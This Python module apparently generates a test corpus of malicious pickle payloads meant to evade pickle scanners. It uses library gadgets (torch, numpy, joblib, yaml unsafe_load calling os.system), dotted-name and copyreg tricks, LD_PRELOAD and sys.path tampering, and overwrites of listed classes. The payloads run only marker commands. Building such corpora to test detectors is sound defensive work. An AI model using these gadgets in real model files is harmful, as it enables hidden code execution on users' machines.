"""Pickles that call what they should not, in ways that earlier corpora of public proofs rarely use."""

from .kit import EVIL, MARK, call, calling, enter_all, literal, name_of, program, stacked, technique

ECHO = f"echo {MARK}"
CODE = f"print('{MARK}')"
_HIDE = "Liu et al. 2025, The Art of Hide and Seek, arXiv:2508.19774 (133 gadgets in libraries)"

enter_all(
    "picklescan advisories of 2025 and 2026 (CVE-2026-56315 and its kin: modules of the standard library not on its list)",
    "global",
    "model.pkl",
    {
        "pager_of_pyrepl": calling("_pyrepl.pager", "pipe_pager", MARK, "cat"),
        "output_read_by_osx_support": calling("_osx_support", "_read_output", ECHO),
        "output_read_by_aix_support": calling("_aix_support", "_read_cmd_output", ECHO),
        "command_of_uuid": calling("uuid", "_get_command_stdout", "echo", MARK),
        "imap_over_a_process": calling("imaplib", "IMAP4_stream", ECHO),
        "plural_formula_of_gettext": calling("gettext", "c2py", "n" + "+n" * 20),
        "parser_found_by_sax": calling("xml.sax", "make_parser", [MARK]),
        "annotation_evaluated": program(
            call(
                stacked("typing", "ForwardRef._evaluate"),
                call(name_of("typing", "ForwardRef"), literal(CODE)),
                literal({}),
                literal({}),
                literal(frozenset()),
            )
        ),
        "function_made_by_dataclasses": calling("dataclasses", "_create_fn", "f", [], [CODE]),
        "formula_of_tcl": calling("_tkinter", "create", None, "x", "Tk", 0, 1, 0, 0, None),
        "subinterpreter_private": calling("_interpreters", "run_string", 0, CODE),
        "subinterpreter_of_tests": calling("_testcapi", "run_in_subinterp", CODE),
        "site_line_of_a_pth": calling("site", "addpackage", "/tmp", "x.pth", None),
        "modulefinder_runs": calling("runpy", "_run_code", CODE, {}),
        "spawned_by_multiprocessing": calling(
            "multiprocessing.util", "spawnv_passfds", b"/bin/echo", [b"echo"], []
        ),
        "worker_of_a_process_pool": calling(
            "concurrent.futures.process", "_process_worker", None, None, None, []
        ),
        "alarm_of_signal": program(call(name_of("signal", "signal"), literal(14), name_of("os", "abort"))),
        "at_the_end_of_the_process": program(call(name_of("atexit", "register"), name_of("os", "abort"))),
        "when_collected": program(
            call(
                name_of("weakref", "finalize"), name_of("collections", "OrderedDict"), name_of("os", "abort")
            )
        ),
        "browser_started": calling("webbrowser", "BackgroundBrowser", "echo"),
        "mail_capabilities_tested": calling(
            "mailcap", "findmatch", {"a/b": [{"view": "x", "test": ECHO}]}, "a/b"
        ),
        "codec_imported": calling("codecs", "lookup", MARK),
        "file_truncated_by_dbm": calling("dbm.dumb", "open", f"/tmp/{MARK}", "n"),
        "archive_made_by_zipapp": calling("zipapp", "create_archive", ".", f"/tmp/{MARK}"),
        "debugger_by_breakpoint": calling("builtins", "breakpoint"),
        "server_of_logging": calling(
            "logging.config", "dictConfig", {"version": 1, "formatters": {"f": {"()": "os.abort"}}}
        ),
        "child_of_asyncio": calling("asyncio.subprocess", "create_subprocess_shell", ECHO),
    },
)

enter_all(
    _HIDE,
    "global",
    "model.pkl",
    {
        "expression_of_sympy": calling("sympy.parsing.sympy_parser", "parse_expr", CODE),
        "image_math_of_pillow": calling("PIL.ImageMath", "eval", CODE),
        "query_of_pandas": calling("pandas.core.computation.eval", "eval", f"@{MARK}"),
        "method_behind_a_dot_of_pandas": program(
            call(stacked("pandas.core.frame", "DataFrame.to_csv"), literal(None), literal(f"/tmp/{MARK}"))
        ),
        "pickle_read_by_pandas": calling("pandas.io.pickle", "read_pickle", "http://localhost/x.pkl"),
        "pickle_read_by_statsmodels": calling("statsmodels.iolib.smpickle", "load_pickle", "/tmp/x"),
        "pickle_read_by_gensim": calling("gensim.utils", "unpickle", "/tmp/x"),
        "library_of_numpy_ctypes": calling("numpy.ctypeslib", "load_library", "libevil", "/tmp"),
        "memory_by_strides": program(
            call(
                name_of("numpy.lib.stride_tricks", "as_strided"),
                call(name_of("numpy", "zeros"), literal(1)),
                literal((1 << 30,)),
                literal((8,)),
            )
        ),
        "file_mapped_for_writing": program(
            call(
                name_of("numpy", "memmap"),
                literal(f"/tmp/{MARK}"),
                literal("u1"),
                literal("w+"),
                literal(0),
                literal((1,)),
            )
        ),
        "file_mapped_by_newobj": program(
            name_of("numpy", "memmap") + literal((f"/tmp/{MARK}", "u1", "w+", 0, (1,))) + b"\x81"
        ),
        "rundocs_of_numpy": calling("numpy.testing._private.utils", "rundocs", f"/tmp/{MARK}.py"),
        "string_run_by_numpy": calling("numpy.testing._private.utils", "runstring", CODE, {}),
        "source_of_numpy": calling("numpy.lib._datasource", "open", "http://localhost/x"),
        "integral_of_a_command": program(
            call(name_of("scipy.integrate", "quad"), name_of("os", "system"), literal(0), literal(1))
        ),
        "minimum_of_eval": program(
            call(name_of("scipy.optimize", "minimize"), name_of("builtins", "eval"), literal([0.0]))
        ),
        "native_callback_of_scipy": program(call(name_of("scipy", "LowLevelCallable"), literal(0))),
        "remote_data_of_sklearn": calling("sklearn.datasets._base", "load_files", "/"),
        "scorer_around_a_command": program(
            call(
                name_of("sklearn.metrics._scorer", "_Scorer"),
                name_of("os", "system"),
                literal(1),
                literal({}),
                literal("predict"),
            )
        ),
        "batch_of_joblib": program(
            call(
                name_of("joblib.parallel", "BatchedCalls"),
                b"](" + name_of("os", "system") + literal((ECHO,)) + literal({}) + b"ta",
                literal(("threading", 1)),
            )
        ),
        "memory_of_joblib": program(call(name_of("joblib.memory", "Memory"), literal(f"/tmp/{MARK}"))),
        "class_from_bytes_of_loky": program(
            call(
                name_of("joblib.externals.loky.cloudpickle_wrapper", "_reconstruct_wrapper"),
                literal(EVIL),
                literal(False),
            )
        ),
        "graph_of_torch_fx": calling("torch.fx.graph_module", "reduce_graph_module", {"_code": CODE}, ""),
        "fx_of_a_package": calling("torch.fx.graph_module", "reduce_package_graph_module", None, {}, "x"),
        "type_rebuilt_by_torch": program(
            call(
                name_of("torch._tensor", "_rebuild_from_type_v2"),
                name_of("os", "system"),
                name_of("torch", "Tensor"),
                literal((ECHO,)),
                literal({}),
            )
        ),
        "library_of_torch_ops": program(
            call(stacked("torch", "ops.load_library"), literal(f"/tmp/{MARK}.so"))
        ),
        "bytes_of_torch_storage": calling("torch.storage", "_load_from_bytes", EVIL),
        "rpc_of_torch": calling("torch.distributed.rpc.internal", "_run_function", EVIL),
        "source_compiled_by_torch": calling("torch.utils.cpp_extension", "load_inline", "x", [CODE]),
        "parameter_made_of_a_call": program(
            call(
                name_of("torch._utils", "_rebuild_parameter"),
                call(name_of("os", "system"), literal(ECHO)),
                literal(True),
            )
        ),
        "function_rebuilt_by_numba": calling("numba.core.serialize", "_unpickle__CustomPickled", EVIL),
        "layer_function_of_keras": calling("keras.src.utils.python_utils", "func_load", "4wAAAAA="),
        "object_of_keras": calling(
            "keras.src.saving.serialization_lib", "deserialize_keras_object", {"class_name": "function"}
        ),
        "operators_of_tensorflow": calling(
            "tensorflow.python.framework.load_library", "load_op_library", "/tmp/x.so"
        ),
        "model_of_mlflow": calling("mlflow.pyfunc", "load_model", "http://localhost/x"),
        "model_of_transformers": calling("transformers", "AutoModel.from_pretrained", "x/y"),
        "yaml_without_safety": calling("yaml", "unsafe_load", f"!!python/object/apply:os.system ['{ECHO}']"),
        "process_of_psutil": calling("psutil", "Popen", ["echo", MARK]),
        "terminal_of_pexpect": calling("pexpect", "run", ECHO),
        "gateway_of_spark": calling("pyspark.java_gateway", "launch_gateway"),
        "filesystem_of_fsspec": calling("fsspec.core", "open_local", "http://localhost/x"),
        "spawned_by_setuptools": calling("setuptools._distutils.spawn", "spawn", ["echo", MARK]),
        "handle_of_dill": calling(
            "dill._dill", "_create_filehandle", f"/tmp/{MARK}", "w", 0, False, False, 0, ""
        ),
        "expression_of_dill": calling("dill._dill", "_eval_repr", CODE),
        "skeleton_of_cloudpickle": program(
            call(
                name_of("joblib.externals.cloudpickle.cloudpickle", "_make_skeleton_class"),
                name_of("builtins", "type"),
                literal("X"),
                literal(()),
                literal({}),
                literal(None),
                literal(None),
            )
        ),
    },
)

_DOTS = "Python documentation, pickle: STACK_GLOBAL follows dots since protocol 4 (PEP 3154)"


@technique(_DOTS, "global")
def method_off_a_listed_class():
    return program(
        call(
            stacked("pathlib", "PosixPath.write_text"),
            call(name_of("pathlib", "PosixPath"), literal("/tmp/x")),
            literal(""),
        )
    )


@technique(_DOTS, "global")
def array_dumped_to_a_file():
    return program(
        call(
            stacked("numpy", "ndarray.tofile"),
            call(name_of("numpy", "ndarray"), literal((1,))),
            literal(f"/tmp/{MARK}"),
        )
    )


@technique(_DOTS, "global")
def module_behind_a_listed_package():
    return program(call(stacked("joblib", "os.system"), literal(ECHO)))


@technique(_DOTS, "global")
def module_behind_a_listed_module():
    return program(call(stacked("sklearn.tree._classes", "numbers.sys.exit"), literal(0)))


@technique(_DOTS, "global")
def builtins_of_a_listed_module():
    return program(stacked("copyreg", "__builtins__"), literal("eval"), literal(0) + b"s")


@technique("PEP 562: a package's own __getattr__ imports what it is asked for", "global")
def getattr_of_a_package():
    return program(call(name_of("scipy", "__getattr__"), literal("io")))


_ITEMS = "Python documentation, pickle: SETITEM, APPEND and BUILD act on any object, without a call"


@technique(_ITEMS, "global")
def environment_set_without_a_call():
    return program(name_of("os", "environ"), literal("LD_PRELOAD"), literal("/tmp/x.so"), b"s")


@technique(_ITEMS, "global")
def search_path_appended_without_a_call():
    return program(name_of("sys", "path"), literal("/tmp"), b"a")


@technique(_ITEMS, "global")
def path_of_a_listed_package_appended():
    return program(name_of("sklearn", "__path__"), literal("/tmp"), b"a")


@technique(_ITEMS, "global")
def module_dictionary_overwritten():
    return program(
        name_of("numpy", "random"),
        b"}" + literal("RandomState") + name_of("collections", "OrderedDict") + b"sb",
    )


@technique("ShadowPickle, arXiv:2607.17503 (listed names overwritten)", "class changed")
def method_of_a_listed_class_replaced():
    replaced = b"}" + literal("predict") + name_of("collections", "OrderedDict") + b"s"
    return program(name_of("sklearn.tree._classes", "DecisionTreeClassifier"), b"N", replaced, b"\x86b")


@technique("ShadowPickle, arXiv:2607.17503 (listed names overwritten)", "class changed")
def base_of_a_listed_class_replaced():
    replaced = b"}" + literal("__setstate__") + name_of("joblib.numpy_pickle", "NumpyArrayWrapper") + b"s"
    return program(name_of("sklearn.base", "BaseEstimator"), b"N", replaced, b"\x86b")


@technique("CPython, Lib/copyreg.py: extension codes registered by the pickle that uses them", "global")
def extension_registered_then_used():
    register = call(name_of("copyreg", "add_extension"), literal("posix"), literal("system"), literal(7))
    return program(register, b"0", call(b"\x82\x07", literal(ECHO)))


@technique("CPython, Lib/copyreg.py: a reducer for a type, set by copyreg.pickle", "global")
def reducer_registered():
    return program(
        call(name_of("copyreg", "pickle"), name_of("builtins", "complex"), name_of("os", "system"))
    )


@technique("CPython, Lib/_compat_pickle.py: names of Python 2 are mapped", "global")
def commands_of_python_2():
    return program(call(name_of("commands", "getoutput"), literal(ECHO)), protocol=2)


@technique("CPython, Lib/_compat_pickle.py: names of Python 2 are mapped", "global")
def urllib_of_python_2():
    return program(call(name_of("urllib", "urlretrieve"), literal("http://localhost/x")), protocol=2)


@technique("CPython, Lib/_compat_pickle.py: names of Python 2 are mapped", "global")
def reduce_of_python_2():
    return program(
        call(name_of("__builtin__", "reduce"), name_of("__builtin__", "apply"), literal([])), protocol=0
    )
